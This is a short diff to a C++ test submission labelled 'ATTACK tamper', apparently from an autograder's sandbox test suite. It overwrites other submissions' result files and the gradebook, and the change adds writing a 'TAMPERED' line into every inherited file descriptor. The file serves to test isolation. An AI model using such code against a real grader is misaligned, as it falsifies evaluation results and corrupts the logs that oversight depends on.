@@ -1,6 +1,6 @@
 // ATTACK tamper: a correct submission that, before its checks, rewrites every other cell's
 // result.txt and the gradebook it can find: through the grading folder's real path (baked in by
-// make_test_submissions.sh) and by walking up from its own folders.
+// make_test_submissions.sh), by walking up from its own folders, and through every open descriptor.
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
@@ -25,6 +25,8 @@ const bool done = [] {
     sweep("@OUT@");
     sweep(std::filesystem::read_symlink("/proc/self/exe").parent_path().parent_path().parent_path());
     sweep(std::filesystem::current_path().parent_path());
+    for (int fd = 4; fd < 1024; ++fd)  // any descriptor the grader may have left open: its log, its terminal
+        if (write(fd, "\nfinding=TAMPERED through an inherited descriptor\n", 50) > 0) ++written;
     std::printf("tamper: wrote into %d files\n", written);
     return true;
 }();
